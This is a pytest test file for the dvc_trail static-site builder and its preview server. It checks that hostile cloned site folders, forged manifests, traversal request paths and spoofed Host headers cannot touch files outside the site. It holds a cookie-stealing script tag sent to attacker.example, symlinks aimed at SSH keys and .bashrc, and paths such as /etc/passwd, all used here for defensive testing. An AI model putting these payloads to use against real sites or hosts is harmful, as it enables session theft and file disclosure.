"""Hostile site folders, preview requests and names (issue 17, classes 1, 5 and 7).

A site folder may come with a clone (a committed `site/`), so it is untrusted input: nothing outside it is
ever opened, written or removed, and no page it carries survives a build unverified. The preview server
answers only loopback host names and serves no link. No tag name, however long, fails a build.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from dvc_trail.site import paths
from tests.fixtures.hostile import _isolated, attack, hostile_repo, local_remote, store_object  # noqa: F401
from tests.fixtures.hostile_sites import get, home, registry, tree
from tests.fixtures.repos import commit_all, git, trail

SCRIPT = "<script>fetch('https://attacker.example/'+document.cookie)</script>"
CSP = '<meta http-equiv="Content-Security-Policy"'


def files(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def links(folder: Path) -> list[str]:
    return [rel for rel, what in tree(folder) if what.startswith("-> ")]


def link(at: Path, target: Path) -> None:
    if at.is_dir() and not at.is_symlink():
        shutil.rmtree(at)
    elif at.exists() or at.is_symlink():
        at.unlink()
    at.symlink_to(target)


# --- class 1: the site folder is trusted because it is in the clone ------------------------------------------


def test_a_committed_site_with_links_forged_pages_and_manifest_changes_nothing_outside(tmp_path: Path) -> None:
    mine = home(tmp_path)
    evil = registry(tmp_path)
    trail(evil, "site", "-o", "site")
    site = evil / "site"
    record = json.loads(next((evil / ".git" / "trail" / "site-folders").glob("*.json")).read_text())
    pages = {rel: key for rel, (key, _) in record["pages"].items()}
    for bad in (str(mine / ".profile"), "../../home/.bashrc", "a/../../../home/project/notes.txt", "a/../../../home"):
        pages[bad] = "x"  # an older trail unlinked every manifest entry it did not produce
    (site / ".trail-site.json").write_text(json.dumps({"format": 1, "groups": record["groups"], "pages": pages}))
    page = site / paths.version_page("model", "v1.0.0")
    html = page.read_text()
    assert CSP in html
    forged = html.replace(CSP, "<meta name=x").replace("</body>", SCRIPT + "</body>")
    page.write_text(forged)  # same name, same manifest key: an older trail kept it byte for byte
    link(site / "history", mine)  # a folder the site owns
    link(site / "a" / "model" / "evil", mine)  # inside an owned folder: the removal pass walked into it
    link(site / "a" / "zzz", mine / "project")
    link(site / ".index.html.tmp", mine / ".bashrc")  # the old fixed temporary names
    link(site / "a" / "model" / ".v1.0.0.html.tmp", mine / ".bashrc")
    link(site / "stages.html", mine / ".bashrc")  # pages that are links
    link(site / paths.version_api("model", "v1.1.0"), mine / ".ssh" / "id_rsa")
    commit_all(evil, "the built site, committed (as for GitHub Pages from docs/)")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "--quiet", str(evil), str(clone))
    assert links(clone / "site")
    before = tree(mine)

    out = trail(clone, "site").stdout  # the default folder: the clone's own site/
    assert tree(mine) == before
    built = clone / "site"
    assert links(built) == []
    assert SCRIPT not in (built / paths.version_page("model", "v1.0.0")).read_text()
    trail(clone, "site", "-o", str(tmp_path / "clean"))
    assert files(built) == files(tmp_path / "clean"), out  # exactly what a build into an empty folder makes
    git(clone, "fsck", "--no-progress")
    assert "0 written, 0 removed" in trail(clone, "site").stdout  # now recorded: recognised and kept


def test_an_output_folder_that_is_a_link_is_refused(tmp_path: Path) -> None:
    mine = home(tmp_path)
    evil = registry(tmp_path)
    (evil / "site").symlink_to(mine)
    (evil / "public").symlink_to(mine / "project")
    commit_all(evil, "site and public are links")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "--quiet", str(evil), str(clone))
    before = tree(mine)
    assert "symbolic link" in attack(clone, "site")
    assert "symbolic link" in attack(clone, "site", "-o", "public/site")  # a link on the way, in the repository
    assert "symbolic link" in attack(clone, "site", "-o", "public/../site", "--serve", "--port", "0")
    assert tree(mine) == before


def test_a_marker_at_the_top_of_a_clone_never_makes_it_a_site(tmp_path: Path) -> None:
    evil = registry(tmp_path)
    (evil / ".trail-site.json").write_text('{"format": 2, "generator": "trail site"}\n')
    (evil / "api").mkdir()
    (evil / "api" / "server.py").write_text("the project's own code\n")
    commit_all(evil, "a marker at the top")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "--quiet", str(evil), str(clone))
    assert "git repository" in attack(clone, "site", "-o", ".")


def test_a_page_replaced_after_the_build_is_rewritten(tmp_path: Path) -> None:
    repo = registry(tmp_path)
    site = tmp_path / "site"
    trail(repo, "site", "-o", str(site))
    clean = files(site)
    page = site / paths.version_page("model", "v1.0.0")
    folder_times = os.stat(page.parent)
    page.unlink()  # as `git checkout`/`git pull` replaces a committed page: a new file
    page.write_text(clean[paths.version_page("model", "v1.0.0")].decode().replace("</body>", SCRIPT + "</body>"))
    os.utime(page.parent, ns=(folder_times.st_atime_ns, folder_times.st_mtime_ns))  # as tar restores times
    report = trail(repo, "site", "-o", str(site)).stdout
    assert files(site) == clean and "1 written" in report, report


def test_odd_file_types_in_the_folder(tmp_path: Path) -> None:
    mine = home(tmp_path)
    repo = registry(tmp_path)
    site = tmp_path / "site"
    trail(repo, "site", "-o", str(site))
    clean = files(site)
    (site / "stages.html").unlink()
    os.link(mine / ".bashrc", site / "stages.html")  # a hard link: a page written in place would change .bashrc
    for fifo in (site / "index.html", site / "a" / "model" / "v1.1.0.html"):
        fifo.unlink()
        os.mkfifo(fifo)  # an older trail opened it to compare: blocked forever
    (site / "api" / "v1" / "registry.json").unlink()
    (site / "api" / "v1" / "registry.json" / "x").mkdir(parents=True)  # a folder where a page belongs
    (site / "history").rename(tmp_path / "history")
    (site / "history").write_text("a file where a folder belongs")
    deep = os.open(site / "a", os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(1500):  # deeper than Python's recursion limit, more levels than fds allowed at once
        os.mkdir("d", dir_fd=deep)
        inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=deep)
        os.close(deep)
        deep = inner
    os.close(deep)
    report = trail(repo, "site", "-o", str(site)).stdout
    assert files(site) == clean, report
    assert not (site / "a" / "d").exists()
    assert (mine / ".bashrc").read_text() == "export PATH=/usr/bin\n"


def test_a_marker_that_is_a_link_is_never_read(tmp_path: Path) -> None:
    repo = registry(tmp_path)
    site = tmp_path / "site"
    (site / "a").mkdir(parents=True)
    (site / "a" / "page.html").write_text("someone's")
    (site / ".trail-site.json").symlink_to("/dev/zero")  # an older trail read it whole: MemoryError, exit 3
    proc = subprocess.run(
        [sys.executable, "-m", "dvc_trail", "site", "-o", str(site)],
        cwd=repo,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 1 and proc.stderr.count("\n") == 1 and "holds no trail site" in proc.stderr
    assert (site / "a" / "page.html").read_text() == "someone's"
    mine = home(tmp_path)
    shutil.rmtree(site)
    trail(repo, "site", "-o", str(site))
    (site / ".trail-site.json").unlink()
    (site / ".trail-site.json").symlink_to(mine / ".bashrc")  # in a folder the build recorded: replaced as a link
    trail(repo, "site", "-o", str(site))
    assert not (site / ".trail-site.json").is_symlink()
    assert (mine / ".bashrc").read_text() == "export PATH=/usr/bin\n"


def test_a_folder_that_cannot_be_written_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from dvc_trail.errors import TrailError
    from dvc_trail.project import Project
    from dvc_trail.site import build, safefs

    repo = registry(tmp_path)
    site = tmp_path / "site"

    def full(*args: object) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(safefs, "create", full)
    with pytest.raises(TrailError, match="No space left on device"):
        build.build_site(Project.open(repo), site)
    monkeypatch.undo()
    trail(repo, "site", "-o", str(site))


def test_a_build_cut_short_is_recognised_and_finished(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from dvc_trail.project import Project
    from dvc_trail.site import build, pages

    repo = registry(tmp_path)
    site = tmp_path / "site"
    calls = []
    real = pages.Pages.version

    def interrupted(self: pages.Pages, *args: object) -> str:
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real(self, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(pages.Pages, "version", interrupted)
    with pytest.raises(KeyboardInterrupt):
        build.build_site(Project.open(repo), site)
    monkeypatch.setattr(pages.Pages, "version", real)
    assert (site / ".trail-site.json").is_file() and os.listdir(site)  # half a site, marked
    (site / "a" / "model" / "junk.html").write_text("not the build's")
    trail(repo, "site", "-o", str(site))
    trail(repo, "site", "-o", str(tmp_path / "clean"))
    assert files(site) == files(tmp_path / "clean")
    assert "0 written, 0 removed" in trail(repo, "site", "-o", str(site)).stdout


# --- class 7: names that cannot be file names -----------------------------------------------------------------


def pack_tag(repo: Path, short: str, long: str) -> None:
    """A tag whose name no file system could hold as a loose ref (a packed ref has no length bound)."""
    git(repo, "tag", "-a", "-m", "Registering", short)
    git(repo, "pack-refs", "--all")
    packed = repo / ".git" / "packed-refs"
    packed.write_text(packed.read_text().replace(f"refs/tags/{short}\n", f"refs/tags/{long}\n"))


def test_names_too_long_for_a_file_name(tmp_path: Path) -> None:
    repo = registry(tmp_path)
    deep = "/".join(["seg"] * 90)
    folder = "d" * 200 + "/x.y"
    for tag in (f"{deep}@v1.0.0", f"{folder}=m@v1.0.0", "model@v1.2.0-rc.1+build.7-x"):
        git(repo, "tag", "-a", "-m", "Registering", tag)
    long_version = "v1.3.0-" + "a" * 300 + "+" + "b" * 100
    pack_tag(repo, "model@v9.9.9", f"model@{long_version}")
    site = tmp_path / "site"
    proc = trail(repo, "site", "-o", str(site), check=False)
    assert proc.returncode == 0, proc.stderr
    registry_json = json.loads((site / "api" / "v1" / "registry.json").read_text())
    assert {deep, f"{folder}:m", "model"} <= set(registry_json)
    for name, version in ((deep, "v1.0.0"), (f"{folder}:m", "v1.0.0"), ("model", long_version)):
        assert json.loads((site / paths.artifact_api(name)).read_text())["name"] == name
        doc = json.loads((site / paths.version_api(name, version)).read_text())
        assert (doc["name"], doc["version"]) == (name, version)
        assert (site / paths.version_page(name, version)).is_file()
    for rel in files(site):
        assert len(rel.encode()) < 270 and all(len(part) <= 130 for part in rel.split("/")), rel
    assert "0 written, 0 removed" in trail(repo, "site", "-o", str(site)).stdout


def test_slugs_are_bounded_unique_and_reversible_below_the_bound() -> None:
    names = ["/".join(["seg"] * n) for n in range(1, 120)] + ["a" * n for n in range(100, 140)]
    names += ["x" * 96 + "/one", "x" * 96 + "/two", "d" * 200 + "/x.y:m", "v1.0.0-" + "a" * 300]
    slugs = [paths.slug(name) for name in names]
    assert len(set(slugs)) == len(names)
    for name, slug in zip(names, slugs, strict=True):
        assert len(slug) <= paths.MAX_SLUG and slug.isascii() and "/" not in slug and slug not in (".", "..")
        if "~~" in slug:
            with pytest.raises(ValueError):
                paths.unslug(slug)
        else:
            assert paths.unslug(slug) == name
    assert paths.slug("team/nlp:tagger") == "team~2fnlp~3atagger"  # today's names unchanged


# --- class 5: the preview server ----------------------------------------------------------------------------


def test_preview_answers_only_loopback_host_names(preview: tuple[Path, int, Path]) -> None:
    _, port, _ = preview
    assert get(port, "/", f"127.0.0.1:{port}") == (200, b"<h1>registry</h1>")
    assert get(port, "/a/model/", f"LOCALHOST:{port}")[0] == 200
    for host in ("attacker.example", f"attacker.example:{port}", f"127.0.0.1:{port + 1}", "127.0.0.1", "", None):
        status, body = get(port, "/", host)
        assert status in (400, 403, 421) and b"registry" not in body, host
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:  # two Host headers
        sock.sendall(f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nHost: evil.example\r\n\r\n".encode())
        answer = b""
        while chunk := sock.recv(4096):
            answer += chunk
        assert answer.startswith(b"HTTP/1.0 400") and b"registry" not in answer


def test_preview_never_serves_a_link_or_anything_outside(preview: tuple[Path, int, Path]) -> None:
    _, port, _ = preview
    host = f"127.0.0.1:{port}"
    for path in (
        "/secret",
        "/home/.bashrc",
        "/home/",
        "/a/up/home/.ssh/id_rsa",
        "/a/model/v1.html",
        "/../home/.bashrc",
        "/%2e%2e/home/.bashrc",
        "/a/..%2f..%2fhome%2f.bashrc",
        "//etc/passwd",
        "/fifo",  # a FIFO: opened, it would block the server
        "/empty/",  # no listing of a folder
        "/%ff",
    ):
        status, body = get(port, path, host)
        assert status == 404 and b"PRIVATE" not in body and b"PATH" not in body, (path, status, body)
    status, _ = get(port, "/a/model", host)
    assert status == 301
